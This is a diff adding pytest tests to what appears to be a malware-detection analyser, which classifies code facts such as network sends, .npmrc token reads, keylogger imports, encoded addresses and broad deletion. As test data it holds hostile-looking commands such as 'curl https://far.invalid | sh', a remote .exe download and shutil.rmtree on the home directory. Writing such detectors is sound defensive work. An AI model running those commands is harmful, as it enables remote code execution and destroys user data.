@@ -1,0 +1,118 @@
+"""What the facts of a file mean."""
+
+import pytest
+
+from pratique.analysis.chains.acts import Act, Atom
+from pratique.analysis.chains.atoms import read_atoms
+from pratique.analysis.facts import Capability, Language, Taint, Use
+from pratique.analysis.hosts import HostClass
+from tests.analysis.chains.making import (
+    BARE,
+    FAR,
+    Fact,
+    address,
+    asks,
+    command,
+    env,
+    fetch,
+    file,
+    flow,
+    hidden,
+    place,
+    read,
+    send,
+    start,
+    use,
+    write,
+)
+
+
+def only(fact: Fact, language: Language = Language.PYTHON) -> Atom:
+    (atom,) = read_atoms(file([fact], language), frozenset()).atoms
+    return atom
+
+
+@pytest.mark.parametrize(
+    ("fact", "acts"),
+    [
+        (send(), {Act.NETWORK, Act.SENDS}),
+        (use(Capability.NETWORK, "fetch", "POST https://far.invalid"), {Act.NETWORK, Act.SENDS}),
+        (fetch("https://far.invalid/x.exe"), {Act.NETWORK, Act.FETCHES, Act.WRITES_EXECUTABLE}),
+        (read("logo.png"), {Act.FILES, Act.IMAGE}),
+        (read("run.sh"), {Act.FILES}),
+        (write("run.sh"), {Act.WRITES, Act.WRITES_EXECUTABLE}),
+        (env(), {Act.ENVIRONMENT}),
+        (env("*"), {Act.ENVIRONMENT, Act.WHOLE_ENVIRONMENT}),
+        (place(".npmrc"), {Act.SECRETS, Act.PUBLISH_TOKEN, Act.PACKAGE_CONFIGURATION}),
+        (use(Capability.SECRETS, "a new place"), {Act.SECRETS}),
+        (start("curl https://far.invalid | sh"), {Act.STARTS, Act.PIPES_TO_SHELL}),
+        (flow(Capability.CODE, "exec", Taint.NETWORK), {Act.CODE, Act.FETCHES}),
+        (flow(Capability.FILE_WRITE, "open", Taint.DECODED, target="x.exe"), {Act.WRITES, Act.DECODES, Act.WRITES_EXECUTABLE}),
+        (command("npm publish"), {Act.PUBLISHES}),
+        (hidden(), {Act.HIDDEN_CODE}),
+        (asks("pynput"), {Act.KEYS}),
+        (address(BARE, encoded=True), {Act.ADDRESS, Act.HIDDEN_ADDRESS}),
+    ],
+)  # fmt: skip
+def test_a_fact_means_its_acts(fact: Fact, acts: set[Act]) -> None:
+    assert acts == only(fact).acts
+
+
+@pytest.mark.parametrize(
+    "fact",
+    [
+        use(Capability.CODE, "compile"),
+        use(Capability.PROCESS, "open", FAR),
+        use(Capability.DECODE, "String.fromCharCode"),
+        asks("json"),
+        command("ls -l"),
+    ],
+)
+def test_a_fact_without_a_meaning_is_no_atom(fact: Fact) -> None:
+    assert () == read_atoms(file([fact]), frozenset()).atoms
+
+
+def test_a_call_carries_the_host_it_reaches() -> None:
+    assert ("far.invalid", HostClass.UNKNOWN) == (only(send()).host, only(send()).host_class)
+    assert (None, None) == (only(send(None)).host, only(send("x")).host)
+
+
+def test_a_download_in_a_shell_that_becomes_code_is_piped() -> None:
+    atom = only(flow(Capability.CODE, "sh", Taint.NETWORK), Language.SHELL)
+    assert Act.PIPES_TO_SHELL in atom.acts
+
+
+def test_a_command_runs_when_the_program_of_its_line_is_started() -> None:
+    started = Use(Capability.PROCESS, "os.system", 1, at_load=True, argument="x")
+    facts = file([command("npm publish")])
+    facts = type(facts)(language=facts.language, uses=(started,), commands=facts.commands)
+    found = [atom for atom in read_atoms(facts, frozenset()).atoms if Act.PUBLISHES in atom.acts]
+    assert [True] == [atom.at_load for atom in found]
+
+
+def test_a_file_written_to_a_telling_place_is_proven() -> None:
+    atom = only(write(".github/workflows/x.yml"))
+    assert atom.proven
+    assert {Act.WORKFLOW, Act.WRITES} <= atom.acts
+
+
+def test_what_is_deleted_at_home_is_deleted_broadly() -> None:
+    assert Act.DELETES_BROADLY in only(use(Capability.FILE_WRITE, "shutil.rmtree", "~")).acts
+    assert Act.DELETES_BROADLY not in only(use(Capability.FILE_WRITE, "os.rmdir", "~")).acts
+
+
+def test_a_shipped_program_is_known_by_its_name() -> None:
+    (atom,) = read_atoms(file([start("./bin/x.exe -q")]), frozenset(), frozenset({"x.exe"})).atoms
+    assert Act.OWN_BINARY in atom.acts
+
+
+def test_an_address_that_is_shown_elsewhere_is_not_hidden() -> None:
+    found = read_atoms(file([address(BARE + "/a", encoded=True), address(BARE)]), frozenset())
+    assert not [atom for atom in found.atoms if Act.HIDDEN_ADDRESS in atom.acts]
+
+
+def test_the_lines_of_a_bundle_tell_no_functions() -> None:
+    facts = file([send() for _ in range(50)], Language.JAVASCRIPT)
+    bundle = type(facts)(language=facts.language, uses=facts.uses, lines=2, longest_line=90_000)
+    assert {-1} == {atom.scope for atom in read_atoms(bundle, frozenset()).atoms}
+    assert {1} == {atom.scope for atom in read_atoms(facts, frozenset()).atoms}
